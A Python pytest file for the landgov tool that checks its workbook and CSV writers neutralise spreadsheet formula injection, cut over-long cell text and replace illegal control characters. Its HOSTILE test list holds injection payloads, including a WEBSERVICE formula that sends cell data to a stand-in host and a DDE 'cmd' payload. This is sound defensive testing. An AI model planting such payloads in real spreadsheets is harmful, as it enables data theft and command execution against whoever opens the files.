"""Hostile text in every workbook and CSV landgov writes (issue 8, items 2 and 6).

Text from the data never becomes a formula (OWASP CSV/formula injection), characters an .xlsx
cannot hold never crash a run, and text longer than an Excel cell is cut visibly and reported.
Each writer is checked on the file itself: the sheet XML holds no ``<f>`` element and openpyxl
reads the exact typed text back as a string cell. When LibreOffice is installed, the workbook
is also converted to CSV headless to see what a spreadsheet program shows.
"""

from __future__ import annotations

import csv
import datetime as dt
import doctest
import json
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pytest
from openpyxl import Workbook, load_workbook

from landgov.core.problems import PROBLEM_COLUMNS
from landgov.core.safe_text import (
    EXCEL_CELL_LIMIT,
    cell_text,
    csv_field,
    cut_mark,
    is_formula_like,
)
from landgov.far.zengrong import CONDITIONS
from landgov.reports.excel import write_sheet, write_workbook
from landgov.reports.packet import PACKET_COLUMNS, SHEET, write_packet
from landgov.sample._writers import write_csv, write_xlsx
from tests._cli import run_cli

SAMPLE = Path(__file__).resolve().parents[1] / "data" / "sample"

HOSTILE = [
    '=HYPERLINK("http://x","点我")',
    '=WEBSERVICE("http://x/?q="&A1)',
    "=1+2",
    "@SUM(A1)",
    "+1",
    "-1+2",
    "\t=1+2",
    "\r=1+2",
    "=cmd|' /C calc'!A0",
    "#N/A",
    "=",
]
ORDINARY = ["绍兴某某纺织有限公司", "A-1", "1+2", "中=文", "", " =1"]
LONG = "长" * 40_000
ASTRAL = "𠮷" * 20_000  # CJK Extension B: two UTF-16 code units each
# XlsxWriter stores a carriage return as a line feed (openpyxl would read it back as 「_x000D_」)
HOSTILE_WORKBOOK = [t.replace("\r", "\n") for t in HOSTILE]
CONTROL = ["甲\x01乙", "\x00开头", "结尾\x1f", "垂直\x0b制表", "非字符\ufffe", "孤立\ud800代理"]
_FORMULA = re.compile(rb"<f[ >]")


def _sheet_xml(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as zf:
        return {n: zf.read(n) for n in zf.namelist() if n.startswith("xl/worksheets/sheet")}


def _assert_no_formula(path: Path) -> None:
    found = [name for name, xml in _sheet_xml(path).items() if _FORMULA.search(xml)]
    assert not found, f"formula elements in {found}"


def _column(ws: object, header: str) -> list[object]:
    rows = list(ws.iter_rows())  # type: ignore[attr-defined]
    j = [c.value for c in rows[0]].index(header)
    return [row[j] for row in rows[1:]]


def _assert_text_cells(cells: list[object], expected: list[str]) -> None:
    assert [c.value for c in cells] == expected  # type: ignore[attr-defined]
    assert all(c.data_type == "s" for c in cells)  # type: ignore[attr-defined]
    # formula-like text keeps quotePrefix, so an edit in Excel/WPS leaves it text
    assert all(c.quotePrefix for c in cells if is_formula_like(c.value))  # type: ignore[attr-defined]


def _hostile_frame() -> pd.DataFrame:
    n = len(HOSTILE)
    return pd.DataFrame(
        {
            "name": HOSTILE,
            "tax_wan": [-1.5 + i for i in range(n)],  # a number stays a number, minus and all
            "n_parcels": list(range(n)),
            "=SUM(A:A)": ["x"] * n,  # a column name from the data, no label
        }
    )


# --------------------------------------------------------------------------------------------
# The rule


class TestRule:
    @pytest.mark.parametrize("text", HOSTILE)
    def test_hostile_text_is_formula_like(self, text: str) -> None:
        assert is_formula_like(text)

    @pytest.mark.parametrize("text", ORDINARY)
    def test_ordinary_text_is_not(self, text: str) -> None:
        assert not is_formula_like(text)

    @pytest.mark.parametrize("text", [t for t in HOSTILE if t[0] in "=+-@\t\r"])
    def test_csv_field_prefixes_a_single_quote(self, text: str) -> None:
        assert csv_field(text) == "'" + text

    @pytest.mark.parametrize("value", [-1.5, -3, 0, "A-1", "甲公司", None])
    def test_csv_field_leaves_numbers_and_plain_text(self, value: object) -> None:
        assert csv_field(value) == value

    def test_text_at_the_limit_is_kept_whole(self) -> None:
        fixed = cell_text("字" * EXCEL_CELL_LIMIT)
        assert not fixed.changed and len(fixed.text) == EXCEL_CELL_LIMIT

    def test_long_text_is_cut_with_a_mark(self) -> None:
        fixed = cell_text(LONG)
        assert fixed.cut and fixed.cut_from == 40_000
        assert len(fixed.text) == EXCEL_CELL_LIMIT
        assert fixed.text.endswith(cut_mark(40_000)) and "40000" in fixed.text
        assert fixed.text.startswith("长" * 1000)

    def test_astral_characters_count_twice(self) -> None:
        fixed = cell_text(ASTRAL)  # 20,000 characters, 40,000 UTF-16 code units
        assert fixed.cut and fixed.cut_from == 40_000
        assert len(fixed.text.encode("utf-16-le")) // 2 <= EXCEL_CELL_LIMIT
        assert fixed.text.startswith("𠮷") and fixed.text.endswith(cut_mark(40_000))

    @pytest.mark.parametrize("text", CONTROL)
    def test_illegal_characters_are_replaced_visibly(self, text: str) -> None:
        fixed = cell_text(text)
        assert fixed.replaced and not fixed.cut
        assert len(fixed.text) == len(text)
        assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]", fixed.text)
        assert fixed.problem.startswith("文本含 Excel 文件不允许的控制字符 U+")
        assert cell_text("甲\x01乙").text == "甲␁乙"

    def test_docstring_examples(self) -> None:
        import landgov.core.safe_text as module

        result = doctest.testmod(module)
        assert result.attempted >= 6 and result.failed == 0

    @pytest.mark.parametrize("text", ["换\n行", "制\t表", "回\r车"])
    def test_legal_whitespace_is_kept(self, text: str) -> None:
        assert cell_text(text).text == text and not cell_text(text).changed


# --------------------------------------------------------------------------------------------
# Each writer, hostile text


class TestNoFormula:
    def test_write_workbook(self, tmp_path: Path) -> None:
        path = tmp_path / "w.xlsx"
        labels = {"name": "企业名称", "n_parcels": "@宗地数"}
        write_workbook([("清单", _hostile_frame())], path, labels=labels)
        _assert_no_formula(path)
        ws = load_workbook(path)["清单"]
        _assert_text_cells(_column(ws, "企业名称"), HOSTILE_WORKBOOK)
        heads = [c for c in next(ws.iter_rows())]
        # no label given: the column registry's (税收（万元）); an unknown name is kept
        _assert_text_cells(heads, ["企业名称", "税收（万元）", "@宗地数", "=SUM(A:A)"])
        taxes = _column(ws, "税收（万元）")
        assert [c.value for c in taxes] == [-1.5 + i for i in range(len(HOSTILE))]
        assert {c.data_type for c in taxes} == {"n"}
        assert not any(c.quotePrefix for c in _column(ws, "=SUM(A:A)"))  # plain text: no prefix

    @pytest.mark.parametrize("through", ["merge", "openpyxl"])
    def test_write_sheet_keeps_other_sheets_text(self, tmp_path: Path, through: str) -> None:
        path = tmp_path / "s.xlsx"
        write_workbook([("清单", _hostile_frame())], path)
        # no decorate: merged in at the zip level, written as write_workbook writes (XlsxWriter:
        # a carriage return is a line feed); a decorate hook keeps openpyxl's load and save
        decorate = None if through == "merge" else (lambda ws, table: None)
        write_sheet(_hostile_frame(), path, sheet="补充", decorate=decorate)
        write_sheet(_hostile_frame(), path, sheet="补充", decorate=decorate)  # replacing it
        _assert_no_formula(path)
        wb = load_workbook(path)
        assert wb.sheetnames == ["清单", "补充"]
        added = HOSTILE_WORKBOOK if through == "merge" else HOSTILE
        for ws, texts in zip(wb, [HOSTILE_WORKBOOK, added], strict=True):
            _assert_text_cells(_column(ws, "企业名称"), texts)
            _assert_text_cells([next(ws.iter_rows())[3]], ["=SUM(A:A)"])

    def test_write_packet(self, tmp_path: Path) -> None:
        path = tmp_path / "p.xlsx"
        n = len(HOSTILE)
        frame = pd.DataFrame({c: [None] * n for c in PACKET_COLUMNS})
        frame["enterprise_name"] = HOSTILE
        frame["zengrong_reason"] = HOSTILE[::-1]
        frame["zengrong"] = "待核实"
        for c in CONDITIONS:
            frame[c] = "待核实"
            frame[f"{c}_note"] = HOSTILE  # also attached as comments
        write_packet(frame, path)
        _assert_no_formula(path)
        ws = load_workbook(path)[SHEET]
        _assert_text_cells(_column(ws, PACKET_COLUMNS["enterprise_name"]), HOSTILE)
        _assert_text_cells(_column(ws, PACKET_COLUMNS["zengrong_reason"]), HOSTILE[::-1])
        comments = [c.comment.text for c in _column(ws, PACKET_COLUMNS[CONDITIONS[0]])]
        assert comments == HOSTILE

    def test_sample_xlsx(self, tmp_path: Path) -> None:
        path = tmp_path / "sample.xlsx"
        frame = pd.DataFrame({"企业名称": HOSTILE, "税收（万元）": [-1.0] * len(HOSTILE)})
        groups = [("=组", 1), ("+组", 1)]
        write_xlsx(
            frame, path, sheet="表", as_of=dt.date(2026, 6, 30), title="=标题", groups=groups
        )
        _assert_no_formula(path)
        ws = load_workbook(path)["表"]
        _assert_text_cells(
            [ws["A1"], ws["A2"], ws["B2"], ws["A3"]], ["=标题", "=组", "+组", "企业名称"]
        )
        _assert_text_cells([ws.cell(row=4 + i, column=1) for i in range(len(HOSTILE))], HOSTILE)
        assert ws["B4"].value == -1.0 and ws["B4"].data_type == "n"

    def test_sample_csv_gets_the_owasp_quote(self, tmp_path: Path) -> None:
        path = tmp_path / "e.csv"
        frame = pd.DataFrame(
            {"企业名称": [*HOSTILE, "甲公司"], "税收": [-1.5] * (len(HOSTILE) + 1)}
        )
        write_csv(frame, path)
        with path.open(encoding="utf-8-sig", newline="") as fh:
            rows = list(csv.reader(fh))
        names = [r[0] for r in rows[1:]]
        expected = ["'" + t if t[0] in "=+-@\t\r" else t for t in HOSTILE]
        assert names == [*expected, "甲公司"]
        assert {r[1] for r in rows[1:]} == {"-1.5"}  # numbers are not quoted


# --------------------------------------------------------------------------------------------
# Over-long text and illegal characters: no crash, visible, reported


def _problem_frame() -> pd.DataFrame:
    return pd.DataFrame(
        [["enterprises.xlsx", 3, "企业名称", "甲\x02", "示例问题", "示例处理", "警告"]],
        columns=PROBLEM_COLUMNS,
    )


class TestCutAndControl:
    def _frame(self) -> pd.DataFrame:
        names = pd.Series(["短", LONG, *CONTROL], dtype=object)  # str dtype refuses surrogates
        return pd.DataFrame({"name": names, "other": ["x"] * len(names)})

    def test_write_workbook_reports_in_problems_sheet(self, tmp_path: Path) -> None:
        path = tmp_path / "w.xlsx"
        written = write_workbook(
            [("清单", self._frame()), ("问题记录", _problem_frame())],
            path,
            labels={"name": "企业名称"},
            problems_sheet="问题记录",
        )
        assert load_workbook(path).sheetnames == ["清单", "问题记录"]  # order kept
        ws = load_workbook(path)["清单"]
        cell = ws["A3"]
        assert len(cell.value) == EXCEL_CELL_LIMIT and cell.value.endswith(cut_mark(40_000))
        assert ws["A4"].value == "甲␁乙"
        where = {(f.sheet, f.row, f.column) for f in written.fixes}
        own = ("问题记录", 2, "D")  # the problems sheet's own bad value is reported too
        expected = {("清单", r, "A") for r in range(3, 3 + 1 + len(CONTROL))} | {own}
        assert where == expected
        cut = [f for f in written.fixes if f.cut]
        assert len(cut) == 1 and cut[0].header == "企业名称"
        rows = list(load_workbook(path)["问题记录"].iter_rows(min_row=2, values_only=True))
        assert len(rows) == 1 + len(expected)
        assert rows[0][3] == "甲␂"
        fields = {(r[0], r[1], r[2]) for r in rows[1:]}
        assert ("w.xlsx：清单", 3, "企业名称（A 列）") in fields
        assert ("w.xlsx：问题记录", 2, "所见值（D 列）") in fields
        assert all(r[6] == "警告" for r in rows[1:])
        note = written.note()
        assert note["cells_cut"] == 1 and note["cells_with_characters_replaced"] == 1 + len(CONTROL)

    def test_write_sheet_reports_cut_and_control(self, tmp_path: Path) -> None:
        path = tmp_path / "s.xlsx"
        written = write_sheet(self._frame(), path, sheet="清单")
        assert {(f.row, f.cut) for f in written.fixes} == {(3, True)} | {
            (r, False) for r in range(4, 4 + len(CONTROL))
        }
        probs = write_sheet(_problem_frame(), path, sheet="问题", problems=True)
        rows = list(load_workbook(path)["问题"].iter_rows(min_row=2, values_only=True))
        assert [(f.row, f.column) for f in probs.fixes] == [(2, "D")]
        assert len(rows) == 2 and "控制字符 U+0002" in rows[1][4]
        assert len(written.added_to(_problem_frame())) == 1 + len(written.fixes)

    def test_header_with_control_character(self, tmp_path: Path) -> None:
        path = tmp_path / "h.xlsx"
        written = write_workbook([("表", pd.DataFrame({"名\x03称": ["a"]}))], path)
        assert load_workbook(path)["表"]["A1"].value == "名␃称"
        assert [(f.row, f.column, f.header) for f in written.fixes] == [(1, "A", "名␃称")]

    def test_write_packet_reports_a_long_reason(self, tmp_path: Path) -> None:
        frame = pd.DataFrame({c: [None] for c in PACKET_COLUMNS})
        frame["zengrong"] = "待核实"
        frame["zengrong_reason"] = LONG
        for c in CONDITIONS:
            frame[c], frame[f"{c}_note"] = "待核实", "说明\x01" + LONG  # comment as well
        written = write_packet(frame, tmp_path / "p.xlsx")
        ws = load_workbook(tmp_path / "p.xlsx")[SHEET]
        assert _column(ws, PACKET_COLUMNS["zengrong_reason"])[0].value.endswith(cut_mark(40_000))
        comment = _column(ws, PACKET_COLUMNS[CONDITIONS[0]])[0].comment.text
        assert comment.startswith("说明␁") and len(comment) == EXCEL_CELL_LIMIT
        assert sum(f.cut for f in written.fixes) == 1 + len(CONDITIONS)

    def test_sample_writer_does_not_crash(self, tmp_path: Path) -> None:
        path = tmp_path / "x.xlsx"
        frame = pd.DataFrame({"名称": pd.Series(CONTROL, dtype=object)})
        write_xlsx(frame, path, sheet="表", as_of=dt.date(2026, 6, 30))
        ws = load_workbook(path)["表"]
        assert ws["A2"].value == "甲␁乙"


# --------------------------------------------------------------------------------------------
# End to end: landgov screen, then landgov far into the same folder


_HYPERLINK = '=HYPERLINK("http://x","点我")'


def _tiny_inputs(folder: Path) -> tuple[Path, Path]:
    """Three sample parcels and their enterprises, holders and names made hostile."""
    parcels = gpd.read_file(SAMPLE / "parcels.shp", rows=3, encoding="GBK")
    parcels.loc[0, "权利人"] = _HYPERLINK
    parcels.loc[1, "权利人"] = "@SUM(A1)"
    parcels.loc[2, "权利人"] = "-1+2\x01有限公司"
    parcels.to_file(folder / "parcels.gpkg", driver="GPKG")
    columns = [
        "统一社会信用代码",
        "企业名称",
        "规上/规下",
        "镇街",
        "税收（万元）",
        "用地面积（亩）",
    ]
    rows = [
        ["9133060436844396CA", _HYPERLINK, "规上", "斗门街道", "3079.58", "131.13"],
        ["91330602MA2JQCD81K", "@SUM(A1)", "规上", "斗门街道", "-1", "20.87"],
        ["91330602MA2XJ44ANP", "-1+2\x01有限公司", "规下", "斗门街道", "12.5", LONG],
    ]
    enterprises = folder / "enterprises.csv"
    with enterprises.open("w", encoding="utf-8-sig", newline="") as fh:
        csv.writer(fh).writerows([columns, *rows])
    return folder / "parcels.gpkg", enterprises


@pytest.fixture(scope="module")
def screened(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    parcels, enterprises = _tiny_inputs(folder)
    out = folder / "out"
    result = run_cli("screen", "-p", parcels, "-e", enterprises, "-o", out, "--as-of",
                     "2026-06-30", "-q")  # fmt: skip
    assert result.returncode == 0, result.stdout + result.stderr
    return out


class TestEndToEnd:
    def test_screen_writes_hostile_names_as_text(self, screened: Path) -> None:
        xlsx = screened / "landgov.xlsx"
        _assert_no_formula(xlsx)
        wb = load_workbook(xlsx)
        holders = _column(wb["底数清单"], "权利人")
        _assert_text_cells(holders[:2], [_HYPERLINK, "@SUM(A1)"])
        assert holders[2].value == "-1+2␁有限公司" and holders[2].quotePrefix
        names = {c.value for c in _column(wb["企业评价"], "企业名称")}
        assert {_HYPERLINK, "@SUM(A1)"} <= names

    def test_screen_reports_replaced_characters(self, screened: Path) -> None:
        whole = json.loads((screened / "manifest.json").read_text(encoding="utf-8"))
        manifest = whole["stages"]["screen"]
        note = manifest["outputs"]["xlsx_text_fixes"]
        assert note["cells_with_characters_replaced"] >= 2  # 底数清单 权利人 and 企业评价 企业名称
        rows = list(load_workbook(screened / "landgov.xlsx")["问题记录"].values)
        hits = [r for r in rows if str(r[0]).startswith("landgov.xlsx：") and "U+0001" in r[4]]
        assert {r[0] for r in hits} >= {"landgov.xlsx：底数清单", "landgov.xlsx：企业评价"}
        assert manifest["outputs"]["rows"]["problems"] == len(rows) - 1
        # the 40,000-character 用地面积 is quoted by a reader problem row: cut there, and said so
        assert note["cells_cut"] >= 1
        cut = [r for r in rows if r[0] == "landgov.xlsx：问题记录" and "已截断" in r[4]]
        assert cut and all(len(str(v)) <= EXCEL_CELL_LIMIT for r in rows for v in r)

    def test_far_into_the_same_folder_keeps_text(self, screened: Path) -> None:
        folder = screened.parent
        result = run_cli("far", "-p", folder / "parcels.gpkg", "-e", folder / "enterprises.csv",
                         "-o", screened, "--as-of", "2026-06-30", "--forms", "none")  # fmt: skip
        assert result.returncode == 0, result.stdout + result.stderr
        xlsx = screened / "landgov.xlsx"
        _assert_no_formula(xlsx)
        wb = load_workbook(xlsx)
        assert {"底数清单", "问题记录", SHEET, "增容问题记录"} <= set(wb.sheetnames)
        _assert_text_cells(_column(wb["底数清单"], "权利人")[:2], [_HYPERLINK, "@SUM(A1)"])
        names = [c for c in _column(wb[SHEET], PACKET_COLUMNS["enterprise_name"]) if c.value]
        assert names and all(c.data_type == "s" for c in names)
        assert _HYPERLINK in {c.value for c in names}
        manifest = json.loads((screened / "manifest.json").read_text(encoding="utf-8"))
        assert "xlsx_text_fixes" in manifest["stages"]["far"]["outputs"]


# --------------------------------------------------------------------------------------------
# What a spreadsheet program shows (LibreOffice, when installed)

_SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")


def _as_csv(xlsx: Path, tmp_path: Path) -> list[list[str]]:
    subprocess.run(
        [_SOFFICE, f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}", "--headless",
         "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1", "--outdir",
         str(tmp_path), str(xlsx)],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    with xlsx.with_suffix(".csv").open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


@pytest.mark.skipif(_SOFFICE is None, reason="LibreOffice (soffice) is not installed")
class TestLibreOffice:
    def test_formula_like_text_stays_literal(self, tmp_path: Path) -> None:
        path = tmp_path / "lo.xlsx"
        write_workbook([("清单", pd.DataFrame({"name": HOSTILE}))], path)
        rows = _as_csv(path, tmp_path)
        assert [r[0] for r in rows[1:]] == HOSTILE_WORKBOOK

    def test_the_check_can_fail(self, tmp_path: Path) -> None:
        path = tmp_path / "naive.xlsx"  # what a plain openpyxl writer produces
        wb = Workbook()
        wb.active.append(["name"])
        wb.active.append(["=1+2"])
        wb.save(path)
        assert _as_csv(path, tmp_path)[1] == ["3"]
